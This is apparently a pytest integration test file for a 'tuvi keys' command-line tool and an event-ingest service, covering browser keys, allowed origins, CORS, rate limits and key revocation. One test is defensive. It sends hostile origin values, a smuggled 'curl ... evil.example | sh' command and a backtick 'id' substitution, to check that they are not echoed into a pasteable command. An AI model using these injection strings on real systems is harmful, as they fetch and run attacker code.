"""`tuvi keys` and what ingest makes of it: pages, rates, last use, revoked within seconds."""

import asyncio
import json
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import asyncpg
import pytest
import pytest_asyncio
from structlog.testing import capture_logs

from services.ingest.adapters import write_keys
from shared import auth
from tests.integration.ingest_place import Place, place
from tuvi import cli, client

SHOP, ELSEWHERE = "https://shop.example", "https://evil.example"
VIEW = {"type": "page", "anonymousId": "a-1", "messageId": "m-1"}


class Keys:
    """`tuvi keys …` as a person types it."""

    def __init__(self, capsys: pytest.CaptureFixture[str], dsn: str) -> None:
        self._capsys, self._dsn = capsys, dsn

    async def run(self, line: str, *, told: bool = True) -> tuple[int, str, str]:
        """`told`: which database it is."""
        dsn = ["--dsn", self._dsn] if told else []
        return await asyncio.to_thread(self._run, [*line.split(), *dsn])

    async def made(self, line: str) -> str:
        code, out, err = await self.run(f"create {line}")
        assert code == 0, err
        return out.strip()

    async def row(self, key: str) -> Any:
        rows = json.loads((await self.run("list --json"))[1])
        return next(row for row in rows if row["prefix"] == key[:14])

    def _run(self, words: list[str]) -> tuple[int, str, str]:
        before, sys.argv = sys.argv, ["tuvi", "keys", *words]
        try:
            code = cli.main() or 0
        except SystemExit as ended:
            code = int(ended.code or 0)
        finally:
            sys.argv = before
        return code, *self._capsys.readouterr()


@pytest.fixture
def keys(capsys: pytest.CaptureFixture[str], database: str) -> Keys:
    return Keys(capsys, database)


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def ingest(database: str, kafka: str, topic_prefix: str) -> AsyncIterator[Place]:
    async with place(database, kafka, topic_prefix) as found:
        await found.ready()
        yield found


@pytest.fixture(autouse=True)
def _no_moment_passes(monkeypatch: pytest.MonkeyPatch) -> None:
    """A person takes longer than this from making a key to using it."""
    monkeypatch.setattr(auth, "AGAIN_SECONDS", 0.0)


async def _kept(ingest: Place, key: str) -> list[Any]:
    return [event for event in await ingest.kept() if event.via == key[:14]]


async def _sent(
    ingest: Place, key: str, page: str = "", path: str = "/v1/page", **more: Any
) -> tuple[int, Any, Any]:
    """Status, answer, headers; as Segment's library for browsers sends it."""
    headers = {"content-type": "text/plain", **({"origin": page} if page else {})}
    body = json.dumps({**VIEW, "writeKey": key, **more})
    async with ingest.session.post(ingest.url + path, data=body, headers=headers) as answer:
        return answer.status, await answer.json(content_type=None), answer.headers


async def test_a_page_of_the_shop_may_send_and_no_other(ingest: Place, keys: Keys) -> None:
    key = await keys.made(f"--scope browser --name shop-front --origin {SHOP}/")
    status, answer, headers = await _sent(ingest, key, SHOP, "/v1/p")
    assert (status, answer["success"]) == (200, True)
    assert headers["access-control-allow-origin"] == SHOP
    assert headers["vary"] == "origin"

    status, answer, headers = await _sent(ingest, key, ELSEWHERE)
    assert (status, answer["title"]) == (403, "Page not allowed")
    allow = f"`tuvi keys allow {key[:14]} --origin {ELSEWHERE}`"
    assert answer["detail"].endswith(f"Only if they are yours: {allow}.")
    assert headers["access-control-allow-origin"] == ELSEWHERE  # so that its developer sees it
    (kept,) = await _kept(ingest, key)
    assert (kept.public, kept.message_id) == (True, "browser/m-1")

    assert (await keys.run(f"allow {key[:14]} --origin {ELSEWHERE}"))[0] == 0
    async with asyncio.timeout(10):
        while (await _sent(ingest, key, ELSEWHERE))[0] != 200:
            await asyncio.sleep(0.1)


async def test_a_browser_is_told_before_it_sends(ingest: Place, keys: Keys) -> None:
    await keys.made(f"--scope browser --origin {SHOP}")
    asked = {"origin": SHOP, "access-control-request-method": "POST"}
    async with asyncio.timeout(10):
        while True:
            async with ingest.session.options(ingest.url + "/v1/t", headers=asked) as answer:
                if answer.status == 204:
                    break
            await asyncio.sleep(0.1)
    assert answer.headers["access-control-allow-origin"] == SHOP
    assert "authorization" in answer.headers["access-control-allow-headers"]
    asked["origin"] = "https://nobody.example"
    async with ingest.session.options(ingest.url + "/v1/batch", headers=asked) as answer:
        assert answer.status == 403
        assert "access-control-allow-headers" not in answer.headers
        create = "`tuvi keys create --scope browser --origin https://nobody.example`"
        assert f"Only if they are yours: {create}" in (await answer.json())["detail"]


async def test_what_a_stranger_calls_a_page_is_no_command_to_be_pasted(
    ingest: Place, keys: Keys
) -> None:
    key = await keys.made(f"--scope browser --origin {SHOP}")
    for page in (f"{ELSEWHERE};curl${{IFS}}{ELSEWHERE}|sh", "https://a`id`", "null"):
        _, answer, _ = await _sent(ingest, key, page)
        assert answer["detail"].endswith(f"`tuvi keys allow {key[:14]} --origin https://…`.")


async def test_segments_library_for_browsers_finds_where_to_send(ingest: Place, keys: Keys) -> None:
    key = await keys.made(f"--scope browser --origin {SHOP}")
    status, answer, headers = await _settings(ingest, key, SHOP)
    assert (status, headers["access-control-allow-origin"]) == (200, SHOP)
    assert answer["integrations"]["Segment.io"] == {
        "apiKey": key,
        "apiHost": "127.0.0.1:8001/v1",
        "protocol": "http",
    }
    assert (await _settings(ingest, key, ELSEWHERE))[0] == 403
    assert (await _settings(ingest, ingest.key, SHOP))[0] == 403
    status, _, headers = await _settings(ingest, "tuvi_pk_nobodys", SHOP)
    assert (status, headers["access-control-allow-origin"]) == (401, SHOP)


async def _settings(ingest: Place, key: str, page: str) -> tuple[int, Any, Any]:
    url, headers = f"{ingest.url}/v1/projects/{key}/settings", {"origin": page}
    async with ingest.session.get(url, headers=headers) as answer:
        return answer.status, await answer.json(content_type=None), answer.headers


async def test_a_secret_key_in_a_page_is_refused_in_words(ingest: Place, keys: Keys) -> None:
    status, answer, headers = await _sent(ingest, ingest.key, SHOP)
    assert (status, answer["title"]) == (403, "A secret key in a page")
    assert "--scope browser" in answer["detail"]
    assert headers["access-control-allow-origin"] == SHOP
    listed = await keys.made(f"--scope write_events --origin {SHOP}")
    assert (await _sent(ingest, listed, SHOP))[0] == 200


async def test_a_browser_key_states_no_consent_gives_no_user_an_address_and_imports_nothing(
    ingest: Place, keys: Keys
) -> None:
    key = await keys.made(f"--scope browser --origin {SHOP}")
    consent = {"news": {"state": "subscribed"}}
    for said, field in (
        ({"traits": {"consent": consent}}, "traits.consent"),
        ({"context": {"traits": {"consent": consent}}}, "context.traits.consent"),
    ):
        status, answer, _ = await _sent(ingest, key, SHOP, **said)
        assert status == 400
        assert answer["errors"][0]["field"] == field
        assert "browser key cannot state consent" in answer["errors"][0]["message"]
    traits = {"email": "eve@shop.example"}
    status, answer, _ = await _sent(ingest, key, SHOP, userId="u-7", traits=traits)
    assert status == 200
    assert answer["warnings"][0]["field"] == "traits.email"
    assert "was not used" in answer["warnings"][0]["message"]

    headers = {"authorization": f"Bearer {key}", "x-tuvi-origin": "import"}
    status, answer = await ingest.post("/v1/batch", {"batch": [VIEW]}, headers=headers)
    assert (status, answer["title"]) == (403, "Key of another scope")


async def test_more_than_a_key_may_send_is_refused_whole(ingest: Place, keys: Keys) -> None:
    key = await keys.made("--per-second 5")
    headers = {"authorization": f"Bearer {key}"}
    batch = {"batch": [{**VIEW, "messageId": f"m-{n}"} for n in range(10)]}
    assert (await ingest.post("/v1/batch", batch, headers=headers))[0] == 200
    async with ingest.session.post(ingest.url + "/v1/batch", json=batch, headers=headers) as answer:
        assert answer.status == 429
        assert 1 <= int(answer.headers["retry-after"]) <= 2
        assert "5 events a second" in (await answer.json(content_type=None))["detail"]
    assert len(await _kept(ingest, key)) == 10
    assert (await ingest.post("/v1/page", VIEW))[0] == 200  # another key's events


async def test_a_use_is_noted_and_a_revoked_key_is_refused_within_seconds(
    ingest: Place, keys: Keys
) -> None:
    key = await keys.made("--name backend")
    assert (await keys.row(key))["last_used"] is None
    assert (await _sent(ingest, key))[0] == 200
    async with asyncio.timeout(10):
        while (await keys.row(key))["last_used"] is None:
            await asyncio.sleep(0.05)

    code, out, _ = await keys.run(f"revoke {key[:14]}")
    assert (code, out) == (0, f"{key[:14]} is revoked\n")
    async with asyncio.timeout(auth.FRESH_SECONDS + write_keys.FRESH_SECONDS + 1):
        while (await _sent(ingest, key))[0] != 401:
            await asyncio.sleep(0.1)
    _, answer, _ = await _sent(ingest, key)
    assert (answer["title"], key[:14] in answer["detail"]) == ("Revoked key", True)
    assert key not in answer["detail"]
    _, answer, _ = await _sent(ingest, f"{key[:14]}{key[14:][::-1]}")
    assert answer["title"] == "Unknown key"  # its visible beginning alone is nobody's business
    code, _, err = await keys.run(f"revoke {key[:14]}")
    assert code == 1
    assert "was revoked at 20" in err


async def test_a_key_that_nobody_made_is_found_in_the_log_by_its_beginning(
    ingest: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    wrong = "tuvi_wk_NoBodyMadeThis"
    monkeypatch.setattr(auth, "LOG_SECONDS", 0)
    await _sent(ingest, "tuvi_wk_first-of-all")  # and from here on all are in one span of time
    monkeypatch.setattr(auth, "LOG_SECONDS", 3600)
    with capture_logs() as logs:
        for key in (wrong, wrong, "the password of somebody", wrong, "tuvi_pk_another"):
            assert (await _sent(ingest, key))[0] == 401
        monkeypatch.setattr(auth, "LOGGED", 0)
        assert (await _sent(ingest, "tuvi_pk_too-many"))[0] == 401

    lines = [(log["begins"], log["left_out"]) for log in logs if log["event"] == "unknown key"]
    assert lines == [(wrong[:14], 0), ("not as keys of Tuvi do", 1), ("tuvi_pk_anothe", 1)]
    assert wrong not in str(logs)


async def test_keys_are_listed_for_people_without_what_would_let_in(
    ingest: Place, keys: Keys
) -> None:
    key = await keys.made(f"--scope browser --name shop-front --origin {SHOP} --per-second 200")
    code, out, _ = await keys.run("list")
    assert code == 0
    (line,) = [line for line in out.splitlines() if line.startswith(key[:14])]
    assert line.split()[1:6] == ["shop-front", "default", "browser", "200", SHOP]
    assert key not in out
    assert ingest.key[:14] in out


async def test_beside_a_running_tuvi_up_the_database_is_known(
    ingest: Place,
    keys: Keys,
    database: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("TUVI_ADMIN_DSN", raising=False)
    monkeypatch.setattr(client, "CONTEXT", tmp_path / "context.json")
    code, _, err = await keys.run("list", told=False)
    assert code == 1
    assert err.startswith("error: nothing runs in this folder: start it with `make up`")
    client.CONTEXT.write_text(json.dumps({"dsn": "postgresql://postgres@127.0.0.1:1/tuvi"}))
    code, _, err = await keys.run("list", told=False)
    assert code == 1
    assert "does not answer" in err
    assert "start it with `make up`" in err
    client.CONTEXT.write_text(json.dumps({"dsn": database}))
    code, out, _ = await keys.run("list", told=False)
    assert code == 0
    assert ingest.key[:14] in out


async def test_a_key_is_of_its_own_workspace_alone(
    ingest: Place, keys: Keys, database: str
) -> None:
    connection = await asyncpg.connect(database)
    try:
        await connection.execute("INSERT INTO installation.workspaces VALUES ('other', 'Other')")
    finally:
        await connection.close()
    key = await keys.made(f"--workspace other --scope browser --origin {SHOP}")
    assert (await _sent(ingest, key, SHOP))[0] == 200
    assert [kept.workspace for kept in await _kept(ingest, key)] == ["other"]


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("create --workspace defualt", "no workspace 'defualt'; did you mean 'default'?"),
        ("create --scope brwoser", "no scope 'brwoser'; did you mean 'browser'?"),
        ("create --scope browser", "--origin: a browser key needs the shop's"),
        (f"create --scope read --origin {SHOP}", "a key of scope read is for no page"),
        (f"create --origin {SHOP}/cart", "write scheme://host, such as https://shop.example"),
        ("create --origin shop.example", "write scheme://host"),
        ("create --origin https://*.shop.example", "write scheme://host"),
        ("create --origin https://shop.example:99999", "write scheme://host"),
        ("revoke tuvi_wk_nobody", "no key begins with tuvi_wk_nobody; see `tuvi keys list`"),
        ("revoke tuvi_wk_", "give all 14 characters of its prefix"),
        ("allow tuvi_wk_", "--origin: is missing"),
    ],
)
@pytest.mark.usefixtures("ingest")
async def test_what_is_wrong_is_said_with_what_to_do(keys: Keys, line: str, why: str) -> None:
    code, out, err = await keys.run(line)
    assert (code, out) == (1, "")
    assert why in err


@pytest.mark.parametrize(
    ("given", "stored"),
    [("HTTPS://Shop.Example:443/", SHOP), ("http://localhost:3000", "http://localhost:3000")],
)
@pytest.mark.usefixtures("ingest")
async def test_an_origin_is_stored_as_browsers_write_it(
    keys: Keys, given: str, stored: str
) -> None:
    key = await keys.made(f"--scope browser --origin {given}")
    assert (await keys.row(key))["origins"] == [stored]


async def test_pages_of_every_site_only_with_a_warning(ingest: Place, keys: Keys) -> None:
    code, out, err = await keys.run("create --scope browser --origin *")
    assert code == 0
    assert "warning: pages of every site" in err
    assert (await _sent(ingest, out.strip(), ELSEWHERE))[0] == 200
